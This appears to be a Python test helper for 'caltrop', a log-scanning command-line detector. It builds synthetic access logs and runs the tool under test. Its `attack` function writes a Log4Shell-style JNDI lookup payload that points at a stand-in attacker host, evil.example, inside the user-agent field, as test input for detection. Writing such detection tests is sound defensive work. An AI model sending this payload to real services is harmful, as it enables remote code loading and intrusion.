"""What the tests of the command line share: the program, a folder that goes away, children stopped by their own pid, waiting
for conditions with a deadline."""
import json
import os
import pathlib
import pty
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import unittest

DEADLINE = 60
CALTROP = os.environ.get("CALTROP", "")

LINE = '192.0.2.%d - - [10/Dec/2021:14:%02d:%02d +0000] "GET /%s HTTP/1.1" %d 512 "-" "%s"\n'


def line(n=1, agent="Mozilla/5.0", path="", minute=0, second=0, status=200):
    return LINE % (n % 250, minute, second, path, status, agent)


def attack(n, host="evil.example"):
    return line(n, "${jndi:ldap://%s:1389/n%d}" % (host, n), minute=n // 60 % 60, second=n % 60)


class Case(unittest.TestCase):
    def setUp(self):
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-cli-"))
        self.children = []
        self.env = dict(os.environ, TZ="UTC", CALTROP_DATA_DIR=str(self.dir / "data"), LC_ALL="C.UTF-8")
        self.env.pop("NO_COLOR", None)

    def tearDown(self):
        for child in self.children:
            if child.poll() is None:
                child.kill()
            child.wait(DEADLINE)
            for pipe in (child.stdin, child.stdout, child.stderr):
                if pipe:
                    pipe.close()
        subprocess.run(["chmod", "-R", "u+rwx", str(self.dir)], check=False)
        shutil.rmtree(self.dir)

    def path(self, name):
        return str(self.dir / name)

    def write(self, name, content, mode="w"):
        path = self.dir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, mode + ("b" if isinstance(content, bytes) else "")) as f:
            f.write(content)
        return str(path)

    def run_cli(self, *args, stdin=b"", status=None, env=None, timeout=DEADLINE, stdout=subprocess.PIPE, **options):
        if isinstance(stdin, bytes):
            options["input"] = stdin
        else:
            options["stdin"] = stdin
        done = subprocess.run([CALTROP, *map(str, args)], stdout=stdout, stderr=subprocess.PIPE, env=env or self.env, timeout=timeout,
                              check=False, **options)
        if status is not None:
            self.assertEqual(done.returncode, status, (args, (done.stdout or b"")[-2000:], done.stderr[-2000:]))
        self.assertNotIn(b"${", done.stderr)
        return done

    def events(self, *args, status=None, **options):
        done = self.run_cli("detect", "-q", "--json", *args, status=status, **options)
        return [json.loads(text) for text in done.stdout.splitlines()]

    def start(self, *args, **options):
        child = subprocess.Popen([CALTROP, *map(str, args)], stdout=options.pop("stdout", subprocess.PIPE),
                                 stderr=options.pop("stderr", subprocess.PIPE), stdin=options.pop("stdin", subprocess.DEVNULL),
                                 env=self.env, **options)
        self.children.append(child)
        return child

    def follow(self, *args):
        return Follower(self, "detect", "--follow", "--json", *args)

    def await_that(self, condition, what="the condition"):
        pause, end = threading.Event(), time.monotonic() + DEADLINE
        while True:
            value = condition()
            if value:
                return value
            self.assertLess(time.monotonic(), end, "waited in vain for " + what)
            pause.wait(0.02)


class Follower:
    """A running --follow: its events and messages as they come."""

    def __init__(self, case, *args):
        self.case, self.events, self.messages = case, [], []
        self.lock = threading.Lock()
        self.child = case.start(*args)
        self.readers = [threading.Thread(target=self.read, args=(self.child.stdout, lambda b: self.events.append(json.loads(b)))),
                        threading.Thread(target=self.read, args=(self.child.stderr, lambda b: self.messages.append(b.decode())))]
        for reader in self.readers:
            reader.start()
        # Following has begun when the watches are there.
        case.await_that(lambda: self.child.poll() is not None or self.watching(), "the start of following")

    def watching(self):
        """It has its watches, and sleeps in the wait for changes."""
        folder = "/proc/%d/" % self.child.pid
        try:
            names = [os.readlink(folder + "fd/" + fd) for fd in os.listdir(folder + "fd")]
            with open(folder + "wchan") as f:
                waits = f.read()
            with open(folder + "stat") as f:
                asleep = f.read().rsplit(")", 1)[1].split()[0] == "S"
        except OSError:  # a descriptor was closed, or the program ended, while we looked
            return False
        return asleep and "anon_inode:inotify" in names and ("poll" in waits or waits in ("0", ""))

    def read(self, pipe, take):
        for text in pipe:
            with self.lock:
                take(text)

    def paths(self):
        with self.lock:
            return [e["caltrop"]["indicators"][0]["path"] for e in self.events if e["caltrop"]["indicators"]]

    def await_paths(self, *wanted):
        self.case.await_that(lambda: set(wanted) <= set(self.paths()), "%s, got %s" % (wanted, self.paths()))

    def await_message(self, text):
        self.case.await_that(lambda: any(text in m for m in list(self.messages)), text)

    def stop(self, number=signal.SIGINT):
        self.child.send_signal(number)
        status = self.child.wait(DEADLINE)
        for reader in self.readers:
            reader.join(DEADLINE)
        return status

    def kill(self):
        self.stop(signal.SIGKILL)


def on_terminal(args, columns, env, keys=b""):
    """What the program shows on a terminal of that many columns, and its exit status."""
    import fcntl
    import struct
    import termios
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
    child = subprocess.Popen([CALTROP, *map(str, args)], stdin=follower, stdout=follower, stderr=follower, env=env, start_new_session=True)
    os.close(follower)
    if keys:
        os.write(leader, keys)
    shown = b""
    while True:
        try:
            data = os.read(leader, 65536)
        except OSError:
            break
        if not data:
            break
        shown += data
    os.close(leader)
    return shown.decode("utf-8"), child.wait(DEADLINE)


def main():
    unittest.main(verbosity=2)


if len(sys.argv) > 1 and not CALTROP:
    CALTROP = sys.argv.pop(1)
